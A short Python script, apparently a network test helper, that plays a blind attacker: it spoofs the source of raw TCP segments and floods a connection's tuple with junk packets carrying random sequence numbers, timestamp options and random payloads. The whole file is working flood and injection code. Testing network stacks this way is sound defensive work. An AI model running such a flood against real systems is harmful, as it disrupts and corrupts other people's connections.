#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Junk on a connection's tuple, as a blind attacker sends it.

  junk_send.py SRC DST SPORT DPORT SECONDS

For SECONDS, sends TCP segments from SRC:SPORT to DST:DPORT with a raw
socket as fast as it can: ACK|PSH, Linux's timestamp option, a correct
checksum, a random sequence number (the attacker does not see the
connection's) and 1,200 to 1,399 random bytes of payload. Prints the
number sent.
"""

import os
import random
import socket
import sys
import time

from ftvflood import segment, ts_options


def main():
    src, dst = sys.argv[1], sys.argv[2]
    sport, dport, secs = int(sys.argv[3]), int(sys.argv[4]), \
        float(sys.argv[5])
    tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    payload = os.urandom(1400)
    sent = 0
    end = time.monotonic() + secs
    while time.monotonic() < end:
        for _ in range(64):
            seq = random.getrandbits(32)
            tx.sendto(segment(src, dst, sport, dport, seq,
                              random.getrandbits(32), 0x18,
                              ts_options(random.getrandbits(32),
                                         random.getrandbits(32)),
                              payload[:1200 + random.randrange(200)]),
                      (dst, 0))
            sent += 1
    print(sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
